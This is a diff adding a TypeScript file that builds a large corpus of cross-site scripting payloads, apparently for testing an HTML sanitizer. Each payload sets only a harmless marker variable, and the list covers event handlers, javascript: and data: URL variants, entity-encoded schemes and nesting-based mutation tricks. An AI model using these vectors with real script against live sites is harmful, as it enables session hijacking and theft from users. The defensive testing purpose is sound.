@@ -1,0 +1,68 @@
+const MARK = 'window.__xss=1';
+
+const HANDLERS = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'ontoggle', 'onanimationstart', 'onbegin', 'onpageshow', 'onpointerenter', 'onwheel', 'onscrollend', 'onbeforetoggle'];
+
+const SCHEMES = [
+  'javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', 'java\tscript:', 'java\nscript:', 'java&#10;script:', 'java&Tab;script:', '&#106;avascript:', '&#x6A;avascript:', 'javascript&colon;', '\u0001javascript:',
+  'data:text/html,<script>', 'data:text/html;base64,', 'vbscript:', 'feed:javascript:', 'view-source:javascript:', 'jar:javascript:', '//elsewhere.example/', 'blob:javascript:',
+];
+
+const TAGS = ['script', 'SCRIPT', 'scr<script>ipt', 'script/x', 'script\n', 'svg><script', 'math><script', 'noscript><script', 'template><script', 'select><script', 'style><script', 'title><script', 'textarea><script', 'xmp><script'];
+
+/** Ways to have a browser run something out of HTML that was typed; each would set `window.__xss`. */
+export const XSS_CORPUS: readonly string[] = [
+  ...TAGS.map((tag) => `<${tag}>${MARK}</script>`),
+  ...HANDLERS.map((name) => `<p ${name}="${MARK}" tabindex=1 autofocus>here</p>`),
+  ...HANDLERS.map((name) => `<svg ${name}=${MARK}><animate ${name}=${MARK} attributeName=x dur=1s></svg>`),
+  ...SCHEMES.map((scheme) => `<a href="${scheme}${MARK}">here</a>`),
+  ...SCHEMES.map((scheme) => `<iframe src="${scheme}${MARK}"></iframe>`),
+  `<img src=x onerror=${MARK}>`,
+  `<img src="x" onerror="${MARK}"`,
+  `<IMG SRC=x ONERROR=${MARK}>`,
+  `<img src=x:x onerror\n=${MARK}>`,
+  `<img/src/onerror=${MARK}>`,
+  `<img src=\`x\` onerror=${MARK}>`,
+  `<image src=x onerror=${MARK}>`,
+  `<video><source onerror=${MARK}></video>`,
+  `<audio src=x onerror=${MARK}>`,
+  `<body onload=${MARK}>`,
+  `<object data="javascript:${MARK}"></object>`,
+  `<embed src="javascript:${MARK}">`,
+  `<form action="javascript:${MARK}"><button>here</button></form>`,
+  `<button formaction="javascript:${MARK}">here</button>`,
+  `<input onfocus=${MARK} autofocus>`,
+  `<details open ontoggle=${MARK}>here</details>`,
+  `<marquee onstart=${MARK}>here</marquee>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${MARK}">`,
+  `<base href="javascript:${MARK}//">`,
+  `<link rel=stylesheet href="javascript:${MARK}">`,
+  `<style>@import "javascript:${MARK}";</style>`,
+  `<p style="background:url(javascript:${MARK})">here</p>`,
+  `<p style="width:expression(${MARK})">here</p>`,
+  `<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
+  `<svg><a xlink:href="javascript:${MARK}"><text>here</text></a></svg>`,
+  `<svg><foreignObject><img src=x onerror=${MARK}></foreignObject></svg>`,
+  `<svg><set attributeName=onload to=${MARK}></svg>`,
+  `<math><a xlink:href="javascript:${MARK}">here</a></math>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${MARK}></style></table></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${MARK}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
+  `<a title="</a><img src=x onerror=${MARK}>">here</a>`,
+  `<p title='"><img src=x onerror=${MARK}>'>here</p>`,
+  `&lt;script&gt;${MARK}&lt;/script&gt;`,
+  `<![CDATA[<script>${MARK}</script>]]>`,
+  `<?xml version="1.0"?><script>${MARK}</script>`,
+  `<%<script>${MARK}</script>%>`,
+  `<portal src="javascript:${MARK}"></portal>`,
+  `<isindex type=image src=1 onerror=${MARK}>`,
+  `<dialog open onclose=${MARK}><form method=dialog><button>x</button></form></dialog>`,
+  `<textarea><img src=x onerror=${MARK}></textarea>`,
+  `<table background="javascript:${MARK}"><tr><td>x</td></tr></table>`,
+  `<td colspan="1 onclick=${MARK}">here</td>`,
+  `{{constructor.constructor('${MARK}')()}}`,
+  `\${${MARK}}`,
+  `';${MARK}//`,
+  `"-eval("${MARK}")-"`,
+  `<p>ok</p><!--><img src=x onerror=${MARK}>-->`,
+  `<!--<img src="--><img src=x onerror=${MARK}>">`,
+];
